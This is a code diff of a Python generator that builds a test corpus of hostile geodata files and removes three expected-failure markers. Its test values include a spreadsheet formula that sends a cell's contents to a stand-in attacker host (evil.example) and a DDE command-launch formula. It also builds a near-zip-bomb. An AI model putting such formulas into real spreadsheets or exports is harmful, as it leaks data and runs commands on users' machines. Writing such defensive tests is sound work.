@@ -79,7 +79,7 @@ def make_corpus(out: Path, max_bytes: int = CORPUS_MAX_BYTES) -> list[Case]:
         "hostile-formula-quoted": {"name_en": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"},
         "hostile-formula-plus": {"name_en": "+1+1"},
         "hostile-formula-plain": {"name_en": "@cmd|' /C calc'!A0"},
-    }, xfail="H-A: issue 13 item 1, the import undoes the export's apostrophe"))
+    }))
 
     # 2. NaN and Infinity in GeoJSON coordinates (Python's json writes them as bare words).
     features = [{"type": "Feature", "geometry": {"type": "Point", "coordinates": [x, y]},
@@ -111,8 +111,7 @@ def make_corpus(out: Path, max_bytes: int = CORPUS_MAX_BYTES) -> list[Case]:
         cpg.unlink()
     zip_folder(shape, out / "cp1256.zip")
     cases.append(Case("CP1256 Shapefile without .cpg", "cp1256.zip", IMPORTS,
-                      slugs={"hostile-cp1256": {"name_ar": "تجمع الفخار بالفسطاط"}},
-                      xfail="H-A: issue 13 item 2, CP1256 detection"))
+                      slugs={"hostile-cp1256": {"name_ar": "تجمع الفخار بالفسطاط"}}))
 
     # 6. 3D points: the height is dropped, or the preview refuses them; never a pass then a failure.
     features = [{"type": "Feature", "geometry": {"type": "Point", "coordinates": [31.2357, 30.0444, 25.0]},
@@ -125,8 +124,7 @@ def make_corpus(out: Path, max_bytes: int = CORPUS_MAX_BYTES) -> list[Case]:
     write_csv(source, [row("hostile-no-geometry", lat="30.0500", lon="31.2400")])
     ogr2ogr("-f", "GPKG", str(out / "no-geometry.gpkg"), str(source), "-nln", "clusters")
     cases.append(Case("GeoPackage without geometry, with lat/lon", "no-geometry.gpkg", IMPORTS,
-                      slugs={"hostile-no-geometry": {"lat": 30.05}},
-                      xfail="H-A: issue 13 item 2, lat/lon columns of a GeoPackage without geometry"))
+                      slugs={"hostile-no-geometry": {"lat": 30.05}}))
 
     # 8. Zip bomb-ish: about 1 MB of zip holding 200,000 points.
     shape = work / "many"
